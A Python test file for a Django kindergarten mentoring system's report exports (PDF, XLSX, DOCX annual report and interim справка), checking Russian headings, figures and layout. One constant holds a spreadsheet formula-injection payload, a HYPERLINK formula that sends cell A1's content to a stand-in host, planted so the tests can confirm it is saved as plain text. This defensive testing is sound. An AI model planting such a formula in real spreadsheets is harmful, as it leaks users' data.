"""The annual analytic report as PDF, XLSX and DOCX and the interim monitoring справка, read back: on the
demo kindergarten (the last academic year, whose figures are complete, and the current one), on an
approved report (frozen figures, the head's name, no «ПРОЕКТ») and on an empty database («—», no
division errors). The figures themselves are checked in test_indicators; here, that each document prints
all of them, in Russian, with a decimal comma."""

import io
import re
from datetime import date

import docx
import pytest
from django.template.loader import render_to_string
from django.utils import timezone
from django.utils.html import escape
from openpyxl import load_workbook
from pypdf import PdfReader

from core.dates import academic_start_year
from core.declension import signature_name
from core.text import nested_quotes
from people.models import Organization

from ..annual import annual_figures, interim_figures, report_data
from ..documents import ANNUAL_TEMPLATE, _annual_context, annual_docx, annual_pdf, annual_xlsx, file_name, interim_pdf
from ..models import AnnualReport
from ..period import Period

pytestmark = pytest.mark.django_db

SECTIONS = (
    "1. Кадровый состав",
    "2. Наставляемые по категориям",
    "3. Наставники",
    "4. Наставнические пары и группы",
    "5. Персонализированные программы наставничества",
    "6. Мероприятия",
    "7. Показатели мониторинга",
    "8. Результаты самодиагностики",
    "9. Удовлетворённость участников",
    "10. Профессиональный рост",
    "11. Закрепление в профессии",
    "12. Лучшие практики наставничества",
    "13. Региональная проверка",
)
TEXT_HEADINGS = ("Выводы", "Риски и проблемы", "Предложения на следующий учебный год")
PLANTED = '=HYPERLINK("http://example.invalid/?d="&A1,"Нажмите")'


def read_pdf(content: bytes) -> tuple[str, PdfReader]:
    reader = PdfReader(io.BytesIO(content))
    return " ".join(" ".join(page.extract_text() for page in reader.pages).split()), reader


def squeeze(text: str) -> str:
    return " ".join(text.split())


def this_year() -> int:
    return academic_start_year(timezone.localdate())


def draft(start_year: int, **texts) -> dict:
    """What a view passes for a report not yet approved (saved or not: the same data)."""
    return report_data(AnnualReport(start_year=start_year, **texts))


@pytest.fixture
def last_year(demo) -> dict:
    return draft(
        this_year() - 1,
        conclusions="Система наставничества работает.\nМолодые специалисты закреплены за наставниками.",
        risks=PLANTED,
        proposals="",
    )


# --- the PDF ---------------------------------------------------------------------------------------------


def test_the_pdf_prints_the_title_every_section_the_definitions_the_regional_check_and_the_texts(last_year):
    figures = last_year["figures"]
    text, reader = read_pdf(annual_pdf(last_year))
    width, height = (float(value) for value in reader.pages[0].mediabox[2:])
    assert (round(width), round(height)) == (595, 842)  # A4
    assert len(reader.pages) >= 3
    year = f"{this_year() - 1}/{this_year()}"
    assert "ИТОГОВЫЙ АНАЛИТИЧЕСКИЙ ОТЧЁТ" in text
    assert f"о реализации системы наставничества педагогических работников за {year} учебный год" in text
    assert nested_quotes(squeeze(figures["organization"])).upper() in text  # inner quotes as „лапки“
    assert "УТВЕРЖДАЮ" in text and "ПРОЕКТ" in text
    for heading in (*SECTIONS, *TEXT_HEADINGS):
        assert heading in text, heading
    for indicator in figures["indicators"]:
        assert indicator["title"] in text
        assert squeeze(indicator["definition"]) in text, indicator["key"]
        assert indicator["display"] in text  # «16,7 %», «8,8», «—»: the decimal comma
        assert "." not in indicator["display"]
    for row in figures["regional_check"]:
        assert squeeze(row["title"]) in text, row["title"]
        assert squeeze(row["document"]) in text, row["document"]
    assert "Система наставничества работает." in text
    assert "Молодые специалисты закреплены за наставниками." in text
    assert PLANTED in text  # the curator's text as typed
    proposals = text.split("Предложения на следующий учебный год", 1)[1]
    assert proposals.split()[0] == "—"  # an empty text prints a dash
    assert "Куратор реализации программ наставничества" in text
    assert "Е.В. Соколова" in text  # the head signs under the report
    # The number at the top of every page after the first (ГОСТ Р 7.0.97).
    for number, page in enumerate(reader.pages[1:], start=2):
        words = page.extract_text().split()
        assert str(number) in (words[0], words[-1]), number


def test_the_pdf_draws_the_indicators_and_the_directions_as_charts(last_year):
    figures = last_year["figures"]
    content = annual_pdf(last_year)
    text, _reader = read_pdf(content)
    # Every share indicator is a bar pair; pypdf reads the bars' labels, the legend names both years.
    assert figures["period"]["label"].replace(" учебный год", "") in text
    assert figures["previous_label"].replace(" учебный год", "") in text
    for name, *_counts in figures["pairs"]["by_direction"]:
        assert text.count(name) >= 2, name  # in the table and beside its bar
    assert "Пары (группы)" in text and "Наставляемые" in text
    # The page the PDF is drawn from holds both pictures, with every figure in their descriptions.
    html = render_to_string(ANNUAL_TEMPLATE, _annual_context(last_year))
    assert html.count("<svg") == 2
    assert f"<title>Показатели мониторинга (доли, %): {figures['period']['label']} и предыдущий год</title>" in html
    assert "<title>Пары (группы) и наставляемые по направлениям</title>" in html
    directions, shares = (part.split("</svg>")[0] for part in html.split("<svg")[1:])
    for indicator in figures["indicators"]:
        assert (escape(indicator["title"]) in shares) == (indicator["kind"] == "share"), indicator["key"]
    for name, *_counts in figures["pairs"]["by_direction"]:
        assert escape(name) in directions


def test_an_approved_report_prints_the_frozen_figures_the_head_and_the_date_without_the_project_mark(demo):
    head = Organization.own().head
    figures = annual_figures(Period.academic(this_year() - 1))
    figures["organization"] = "Детский сад на день утверждения"
    report = AnnualReport.objects.create(
        start_year=this_year() - 1,
        status=AnnualReport.Status.APPROVED,
        figures=figures,
        approved_at=timezone.make_aware(timezone.datetime(2026, 9, 15, 10)),
        approved_by=head.user,
        conclusions="Выводы утверждённого отчёта",
    )
    text, _reader = read_pdf(annual_pdf(report_data(report)))
    assert "ДЕТСКИЙ САД НА ДЕНЬ УТВЕРЖДЕНИЯ" in text
    assert "ПРОЕКТ" not in text
    assert "УТВЕРЖДАЮ" in text and "15.09.2026" in text
    assert signature_name(head.last_name, head.first_name, head.middle_name) in text
    assert str(head.position) in text
    assert "показатели на" not in text
    assert "Выводы утверждённого отчёта" in text


def test_the_current_year_prints_with_the_figures_of_today(demo):
    data = draft(this_year())
    text, _reader = read_pdf(annual_pdf(data))
    assert f"за {this_year()}/{this_year() + 1} учебный год" in text
    assert f"показатели на {timezone.localdate():%d.%m.%Y}" in text
    for heading in SECTIONS:
        assert heading in text, heading


# --- the XLSX --------------------------------------------------------------------------------------------


def test_the_workbook_has_a_sheet_per_section_numbers_as_numbers_and_no_formula(last_year):
    figures = last_year["figures"]
    workbook = load_workbook(io.BytesIO(annual_xlsx(last_year)))
    names = workbook.sheetnames
    assert all(len(name) <= 31 for name in names)
    assert [name.split(".")[0] for name in names[:13]] == [str(n) for n in range(1, 14)]
    assert names[13:] == ["Выводы и предложения", "Данные"]
    for sheet in workbook.worksheets:
        assert sheet["A1"].value == figures["organization"]
        assert "Итоговый аналитический отчёт" in sheet["A2"].value
        assert f"{this_year() - 1}/{this_year()}" in sheet["A2"].value
        assert str(sheet.page_setup.paperSize) == sheet.PAPERSIZE_A4
        assert sheet.sheet_properties.pageSetUpPr.fitToPage and sheet.page_setup.fitToWidth == 1
        assert sheet.freeze_panes is not None
        header = int(re.sub(r"\D", "", sheet.freeze_panes)) - 1
        assert all(cell.font.b for cell in sheet[header] if cell.value is not None), sheet.title
        assert sheet.column_dimensions["A"].width > 8
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{sheet.title}!{cell.coordinate}"
                if cell.value != PLANTED:
                    assert not str(cell.value or "").startswith(("=", "+", "@")), f"{sheet.title}!{cell.coordinate}"
    assert workbook["7. Показатели"].page_setup.orientation == "landscape"
    assert workbook["1. Кадровый состав"].page_setup.orientation == "portrait"

    indicators = workbook["7. Показатели"]
    rows = {row[1].value: row for row in indicators.iter_rows(min_row=7, max_row=16)}
    for indicator in figures["indicators"]:
        value = rows[indicator["title"]][2]
        if indicator["value"] is None:
            assert value.value == "—"
        elif indicator["kind"] == "share":
            assert isinstance(value.value, float | int) and value.number_format == "0.0%"
            assert value.value == pytest.approx(indicator["value"] / 100)
        else:
            assert isinstance(value.value, float) and value.value == pytest.approx(indicator["value"])

    staff = workbook["1. Кадровый состав"]
    assert [cell.value for cell in staff[7]] == ["Педагогических работников", figures["staff"]["pedagogical"]]
    assert isinstance(staff["B7"].value, int)

    texts = {row[0].value: row[1].value for row in workbook["Выводы и предложения"].iter_rows(min_row=5)}
    assert texts["Риски и проблемы"] == PLANTED  # kept, as text (the check above: not a formula)
    assert texts["Предложения на следующий учебный год"] == "—"


def test_the_data_sheet_has_every_indicator_with_numerator_and_denominator_and_every_breakdown_row(last_year):
    figures = last_year["figures"]
    sheet = load_workbook(io.BytesIO(annual_xlsx(last_year)))["Данные"]
    rows = [[cell.value for cell in row] for row in sheet.iter_rows(min_row=5) if row[0].value]
    indicators = {row[1]: row for row in rows if row[0] == "7. Показатели"}
    for indicator in figures["indicators"]:
        _section, _title, value, numerator, denominator = indicators[indicator["title"]]
        assert denominator == indicator["denominator"]
        if indicator["kind"] == "share":
            assert numerator == indicator["numerator"]
        if indicator["value"] is not None:
            expected = indicator["value"] / 100 if indicator["kind"] == "share" else indicator["value"]
            assert value == pytest.approx(expected)
    labels = {(row[0], row[1]): row[2] for row in rows}
    for category, count in figures["mentees"]["by_category"]:
        assert labels[("2. Наставляемые по категориям", category)] == count
    for form, count in figures["pairs"]["by_form"]:
        assert labels[("4. Пары по формам", form)] == count
    for direction, pairs, mentees, completed in figures["pairs"]["by_direction"]:
        assert labels[("4. Пары по направлениям", f"{direction}: пар (групп)")] == pairs
        assert labels[("4. Пары по направлениям", f"{direction}: наставляемых")] == mentees
        assert labels[("4. Пары по направлениям", f"{direction}: программ завершено")] == completed
    for reason, count in figures["programs"]["reasons"]:
        assert labels[("5. Прекращены досрочно по причинам", reason)] == count
    assert figures["programs"]["reasons"], "the demo's last year has a program ended early"
    numbers = [row[2] for row in rows if row[0] != "13. Региональная проверка"]
    assert all(isinstance(value, int | float) or value == "—" for value in numbers)  # «—»: nobody to count
    assert sum(isinstance(value, int | float) for value in numbers) > 40


# --- the DOCX --------------------------------------------------------------------------------------------


def test_the_docx_has_the_same_sections_and_word_tables(last_year):
    figures = last_year["figures"]
    document = docx.Document(io.BytesIO(annual_docx(last_year)))
    paragraphs = [paragraph.text for paragraph in document.paragraphs]
    assert "ИТОГОВЫЙ АНАЛИТИЧЕСКИЙ ОТЧЁТ" in paragraphs and "УТВЕРЖДАЮ" in paragraphs and "ПРОЕКТ" in paragraphs
    for heading in (*SECTIONS, *TEXT_HEADINGS):
        assert heading in paragraphs, heading
    assert "Черновая копия" not in " ".join(paragraphs)  # the head's own text: no draft mark
    assert any(squeeze(figures["indicators"][0]["definition"])[1:] in text for text in paragraphs)
    cells = [cell.text for table in document.tables for row in table.rows for cell in row.cells]
    for indicator in figures["indicators"]:
        assert indicator["title"] in cells and indicator["display"] in cells
    for row in figures["regional_check"]:
        assert row["title"] in cells and (row["document"] or "нет") in cells
    assert len(document.tables) >= 15
    assert "Система наставничества работает." in paragraphs and PLANTED in paragraphs


# --- the interim справка ---------------------------------------------------------------------------------


def test_the_interim_spravka_prints_the_period_the_work_the_plan_the_overdue_items_and_blank_decisions(demo):
    today = timezone.localdate()
    data = interim_figures(Period.current(today))
    assert data["overdue"], "the demo has overdue plan items"
    text, reader = read_pdf(interim_pdf(data))
    assert (round(float(reader.pages[0].mediabox[2])), round(float(reader.pages[0].mediabox[3]))) == (595, 842)
    assert "СПРАВКА" in text and "по итогам промежуточного мониторинга реализации системы наставничества" in text
    assert f"С 01.09.{this_year()} по {today:%d.%m.%Y}" in text
    for heading in (
        "1. Период мониторинга",
        "2. Пары (группы) и программы в работе",
        "3. Выполнение планов на дату",
        "4. Просроченные мероприятия",
        "5. Анкетирование участников",
        "6. Решения",
    ):
        assert heading in text, heading
    assert f"Пар и групп в работе {data['pairs']['in_work']}" in text
    plan = data["plan"]
    assert f"Всего {plan['total']} Выполнено в срок {plan['in_time']}" in text
    for row in data["overdue"]:
        assert f"{date.fromisoformat(row['deadline']):%d.%m.%Y} {row['days']}" in text
        assert squeeze(row["activity"]) in text
    assert "программа на корректировке" in text  # the demo's program under correction has overdue items
    assert "Промежуточная" in text and "Итоговая" in text
    assert "Куратор реализации программ наставничества" in text
    assert "Ознакомлена:" in text and "Ознакомлен(а)" not in text  # the demo's head is a woman
    assert file_name(data, "pdf") == f"Справка мониторинга 01.09.{this_year()}-{today:%d.%m.%Y}.pdf"


def test_file_names_are_readable():
    assert file_name({"year": 2025}, "pdf") == "Аналитический отчёт 2025-2026.pdf"
    assert file_name({"year": 2025}, "xlsx") == "Аналитический отчёт 2025-2026.xlsx"
